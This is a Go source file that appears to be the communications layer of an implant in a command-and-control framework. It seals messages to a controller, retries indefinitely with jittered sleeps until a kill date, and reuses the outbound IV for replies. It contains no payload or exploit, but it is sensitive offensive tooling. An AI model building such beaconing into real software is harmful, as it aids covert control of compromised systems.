// SPDX-FileCopyrightText: 2026 The krait-go Authors
//
// SPDX-License-Identifier: GPL-3.0-or-later

// Package channel drives the secure message exchange with the controller.
//
// A Channel seals a wire.Message into its Envelope, hands it to the active
// transport profile and opens the reply. Transport failures are answered by
// sleeping a jittered interval and trying again, without an upper bound;
// this indefinite retry is the agent's resilience mechanism and is only cut
// short by context cancellation, i.e., the kill date or a shutdown signal.
package channel

import (
	"context"
	"errors"

	log "github.com/sirupsen/logrus"

	"github.com/google/uuid"

	"github.com/krait-c2/krait-go/pkg/wire"
)

// Transport is the subset of a profile.Manager the Channel drives: submit
// one opaque blob, receive the correlated reply or profile.ErrNoResponse.
type Transport interface {
	Send(payload string) (string, error)
	ActiveName() string
}

// ErrDecode indicates a reply which could not be decoded: broken envelope,
// failed verification or unparsable plaintext. The exchange itself happened,
// retrying would resend the identical message, so the failure is reported to
// the caller instead.
var ErrDecode = errors.New("channel: reply decoding failed")

// Channel is the secure message channel of one agent session.
type Channel struct {
	manager Transport
	key     wire.Key
	agentID uuid.UUID
	sleeper *Sleeper
}

// New creates a Channel on top of an initialized profile.Manager. The key is
// the session key established before, the agentID identifies this agent in
// every Envelope.
func New(manager Transport, key wire.Key, agentID uuid.UUID, sleeper *Sleeper) *Channel {
	return &Channel{
		manager: manager,
		key:     key,
		agentID: agentID,
		sleeper: sleeper,
	}
}

// AgentID returns the agent's identifier.
func (c *Channel) AgentID() uuid.UUID {
	return c.agentID
}

// Exchange sends one message and returns the controller's answer. On
// transport failure the message is resealed under a fresh IV and resent
// after a jittered sleep, indefinitely, until the context is cancelled.
// Undecodable replies return ErrDecode.
func (c *Channel) Exchange(ctx context.Context, msg wire.Message) (wire.Message, error) {
	plaintext, err := msg.Marshal()
	if err != nil {
		return wire.Message{}, err
	}

	for {
		if err := ctx.Err(); err != nil {
			return wire.Message{}, err
		}

		iv, err := wire.NewIV()
		if err != nil {
			return wire.Message{}, err
		}

		envelope, err := wire.Seal(c.key, c.agentID, iv, plaintext)
		if err != nil {
			return wire.Message{}, err
		}

		reply, err := c.manager.Send(envelope)
		if err != nil {
			log.WithFields(log.Fields{
				"action":  msg.Action,
				"profile": c.manager.ActiveName(),
			}).Debug("Exchange got no response, sleeping before retry")

			if !c.sleeper.Sleep(ctx) {
				return wire.Message{}, ctx.Err()
			}
			continue
		}

		// The reply carries no own IV, the outbound IV of this exchange is
		// reused. This holds only as long as the protocol stays strictly
		// half-duplex with a single outstanding exchange.
		plain, err := wire.OpenReply(c.key, iv, reply)
		if err != nil {
			log.WithError(err).Debug("Reply envelope rejected")
			return wire.Message{}, ErrDecode
		}

		answer, err := wire.UnmarshalMessage(plain)
		if err != nil {
			log.WithError(err).Debug("Reply plaintext unparsable")
			return wire.Message{}, ErrDecode
		}

		return answer, nil
	}
}
